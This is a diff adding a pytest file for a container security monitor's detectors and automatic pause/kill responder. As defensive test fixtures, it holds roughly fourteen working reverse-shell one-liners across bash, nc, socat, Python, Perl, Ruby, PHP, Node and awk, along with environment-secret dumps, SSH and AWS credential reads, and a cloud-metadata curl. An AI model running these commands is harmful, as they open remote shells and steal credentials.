@@ -1,0 +1,245 @@
+"""Monitor detectors and responses as pure logic: every pattern, and what must not trigger."""
+
+from __future__ import annotations
+
+import ipaddress
+import struct
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from coi.audit import AuditLog
+from coi.monitor import detect
+from coi.monitor.collect import Conn, Proc, _addr
+from coi.monitor.execwatch import PROC_EVENT_EXEC, in_cgroup, parse_exec
+from coi.monitor.respond import Responder
+
+
+def proc(cmd: str, files: list[str] | None = None) -> Proc:
+    return Proc(pid=4242, nspid=42, ppid=1, uid=1000, cmdline=cmd, start=1, files=files or [])
+
+
+REVERSE = [
+    "bash -c bash -i >& /dev/tcp/198.51.100.10/4444 0>&1",
+    "sh -i 5<> /dev/tcp/198.51.100.10/4444 0<&5 1>&5 2>&5",
+    "nc -e /bin/sh 198.51.100.10 4444",
+    "ncat 198.51.100.10 4444 -e /bin/bash",
+    "nc.traditional -c bash 10.0.0.1 9001",
+    "socat tcp:198.51.100.10:4444 exec:/bin/sh,pty,stderr",
+    "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.10',4444));"
+    "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
+    "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,$a)",
+    "perl -MIO -e $p=fork;$c=new IO::Socket::INET(PeerAddr,'1.2.3.4:4444')",
+    "ruby -rsocket -e f=TCPSocket.open('1.2.3.4',4444).to_i",
+    "php -r $sock=fsockopen('1.2.3.4',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
+    "node -e var c=new (require('net').Socket)();c.connect(4444,'1.2.3.4')",
+    'awk BEGIN {s = "/inet/tcp/0/1.2.3.4/4444"; while(1){s |& getline c; print c |& s}}',
+    "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f",
+]
+BENIGN = [
+    "bash -i",
+    "bash",
+    "/bin/sh -c trap : INT; bash",
+    "python3 -m pytest -q tests",
+    "python3 -c print('hello')",
+    "nc -z -w1 localhost 80",
+    "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
+    "git clone /workspace/src/repo /tmp/clone",
+    "pip install ./dist/pkg-1.0-py3-none-any.whl",
+    "gcc -O2 -o tests/run tests/run.c",
+    "make -j4 check",
+    "docker build -t app .",
+    "grep -rn apiKey src/",
+    "npm install --no-audit",
+    "node server.js",
+    "curl -fsSL https://registry.npmjs.org/left-pad",
+]
+
+
+@pytest.mark.parametrize("cmd", REVERSE)
+def test_reverse_shells_are_critical(cmd: str) -> None:
+    t = detect.reverse_shell(proc(cmd))
+    assert t is not None and t.level == "critical" and t.category == "reverse_shell", cmd
+
+
+@pytest.mark.parametrize("cmd", BENIGN)
+def test_everyday_commands_raise_nothing(cmd: str) -> None:
+    assert detect.scan_processes([proc(cmd)]) == [], cmd
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "sh -c env | grep -i key",
+        "bash -c printenv | grep -iE 'token|secret'",
+        "grep -i key",
+        "grep -iE api|secret",
+        "cat /proc/1/environ",
+        "sh -c cat /proc/*/environ | tr '\\0' '\\n'",
+        "python3 -c import os; print({k: v for k, v in os.environ.items() if 'KEY' in k})",
+        "node -e console.log(process.env.API_TOKEN)",
+    ],
+)
+def test_environment_scans_are_warnings(cmd: str) -> None:
+    t = detect.env_scan(proc(cmd))
+    assert t is not None and t.level == "warning" and t.category == "env_scanning", cmd
+
+
+@pytest.mark.parametrize(
+    ("cmd", "files"),
+    [
+        ("cat /home/code/.ssh/id_ed25519", []),
+        ("cat", ["/home/code/.aws/credentials"]),
+        ("find / -name id_rsa", []),
+        ("find / -name '*.pem'", []),
+        ("python3 steal.py", ["/home/code/.config/gh/hosts.yml"]),
+        ("cat", ["/srv/app/.env"]),
+    ],
+)
+def test_credential_hunts_are_warnings(cmd: str, files: list[str]) -> None:
+    t = detect.credential_access(proc(cmd, files), "/workspace")
+    assert t is not None and t.level == "warning", (cmd, files)
+
+
+def test_dotenv_in_the_workspace_is_fine() -> None:
+    assert detect.credential_access(proc("python3 app.py", ["/workspace/.env"])) is None
+
+
+def test_metadata_in_a_command_line_is_critical_even_when_refused() -> None:
+    t = detect.metadata_target(proc("curl -s http://169.254.169.254/latest/meta-data/"))
+    assert t is not None and t.level == "critical"
+    assert detect.metadata_target(proc("echo 169.254.169.2541")) is None
+
+
+CTX = detect.NetContext(mode="restricted", gateway="10.200.0.1")
+
+
+def conn(remote: str, proto: str = "tcp") -> Conn:
+    return Conn(proto, "10.200.0.5:40000", remote, "ESTABLISHED", 1000)
+
+
+@pytest.mark.parametrize(
+    ("remote", "ctx", "level", "title"),
+    [
+        ("169.254.169.254:80", CTX, "critical", "Cloud metadata access"),
+        ("198.51.100.10:4444", CTX, "critical", "Connection to a reverse-shell port"),
+        ("198.51.100.10:5555", CTX, "critical", "Connection to a reverse-shell port"),
+        ("198.51.100.10:6667", CTX, "high", "Suspicious port"),
+        ("192.168.77.10:22", CTX, "high", "Private network access"),
+        ("10.200.0.1:8443", CTX, "high", "Connection to the host"),
+        ("8.8.8.8:53", CTX, "warning", "DNS to a foreign resolver"),
+        (
+            "198.51.100.11:443",
+            detect.NetContext(
+                mode="allowlist",
+                gateway="10.200.0.1",
+                allowed=[ipaddress.ip_network("198.51.100.10/32")],
+            ),
+            "high",
+            "Allowlist violation",
+        ),
+    ],
+)
+def test_connections(remote: str, ctx: detect.NetContext, level: str, title: str) -> None:
+    t = detect.suspicious_connection(conn(remote), ctx)
+    assert t is not None and (t.level, t.title) == (level, title)
+
+
+@pytest.mark.parametrize(
+    ("remote", "ctx"),
+    [
+        ("10.200.0.1:53", CTX),
+        ("198.51.100.10:443", CTX),
+        ("192.168.77.10:22", detect.NetContext(mode="open")),
+        ("198.51.100.10:8080", CTX),
+    ],
+)
+def test_normal_connections(remote: str, ctx: detect.NetContext) -> None:
+    assert detect.suspicious_connection(conn(remote), ctx) is None
+
+
+def test_io_bursts_and_fork_bombs() -> None:
+    kw: dict[str, Any] = {"read_mb": 50, "read_rate": 10, "write_mb": 50, "write_rate": 10}
+    (t,) = detect.io_burst(200_000_000, 0, 2.0, **kw)
+    assert t.level == "high" and t.title == "Large read burst"
+    assert detect.io_burst(5_000_000, 5_000_000, 2.0, **kw) == []
+    assert detect.fork_bomb(1500, 10, 1.0) is not None
+    assert detect.fork_bomb(40, 900, 2.0) is not None
+    assert detect.fork_bomb(80, 60, 2.0) is None  # a parallel build
+
+
+def test_dns_volume() -> None:
+    assert detect.dns_volume([], 50, 100) is None
+    t = detect.dns_volume([conn("10.200.0.1:53", "udp")], 600, 100)
+    assert t is not None and t.category == "dns"
+
+
+def test_proc_net_addresses() -> None:
+    assert _addr("0100007F:1F90", False) == "127.0.0.1:8080"
+    assert _addr("0000000000000000FFFF00000100007F:0035", True) == "127.0.0.1:53"
+
+
+def test_exec_events_and_cgroup_match() -> None:
+    def event(what: int, tgid: int) -> bytes:
+        body = struct.pack("=IIQ", what, 0, 0) + struct.pack("=II", tgid, tgid)
+        cn = struct.pack("=IIIIHH", 1, 1, 0, 0, len(body), 0)
+        return struct.pack("=IHHII", 16 + len(cn) + len(body), 3, 0, 0, 0) + cn + body
+
+    assert parse_exec(event(PROC_EVENT_EXEC, 77) + event(1, 78) + event(PROC_EVENT_EXEC, 79)) == [
+        77,
+        79,
+    ]
+    assert in_cgroup("/lxc.payload.coi-ab-1", "lxc.payload.coi-ab-1")
+    assert in_cgroup("/lxc.payload.coi-ab-1/system.slice/x", "lxc.payload.coi-ab-1")
+    assert not in_cgroup("/lxc.payload.coi-ab-10", "lxc.payload.coi-ab-1")
+
+
+class _Instances:
+    def __init__(self) -> None:
+        self.calls: list[str] = []
+
+    def freeze(self, name: str) -> None:
+        self.calls.append(f"freeze {name}")
+
+    def stop(self, name: str, *, force: bool = False) -> None:
+        self.calls.append(f"stop {name} force={force}")
+
+
+class _Daemon:
+    """Records what the responder asks of the daemon (its effect is tested on the real one)."""
+
+    def __init__(self) -> None:
+        self.instances = _Instances()
+
+
+def test_responses_by_level_with_dedupe(tmp_path: Path) -> None:
+    daemon, shown, now = _Daemon(), [], [100.0]
+    audit = AuditLog("c1", tmp_path)
+    r = Responder(
+        daemon,  # type: ignore[arg-type]
+        "c1",
+        audit,
+        auto_pause=True,
+        auto_kill=True,
+        alert=shown.append,
+        clock=lambda: now[0],
+    )
+    warn = detect.Threat("warning", "env_scanning", "Environment scanning detected", "x")
+    high = detect.Threat("high", "network", "Private network access", "tcp to 192.168.1.1:22")
+    crit = detect.Threat("critical", "reverse_shell", "Reverse shell detected", "nc -e")
+    assert [e.action for e in r.handle([warn])] == ["alerted"]
+    assert [e.action for e in r.handle([warn])] == ["deduplicated"]
+    now[0] += 31
+    assert [e.action for e in r.handle([warn, high])] == ["paused", "alerted"]
+    assert [e.action for e in r.handle([high])] == ["deduplicated"]
+    other = detect.Threat("high", "network", "Suspicious port", "tcp to 1.2.3.4:6667")
+    assert [e.action for e in r.handle([other])] == ["logged (already paused)"]
+    assert [e.action for e in r.handle([crit])] == ["killed"]
+    assert daemon.instances.calls == ["freeze c1", "stop c1 force=True"]
+    assert "⚠ SECURITY ALERT [CRITICAL]" in shown[-1] and "KILLED" in shown[-1]
+    assert "Resume with: coi resume c1" in shown[1]
+    lines = audit.path.read_text().splitlines()
+    assert (
+        len(lines) == 7 and '"level":"critical"' in lines[-1] and '"action":"killed"' in lines[-1]
+    )
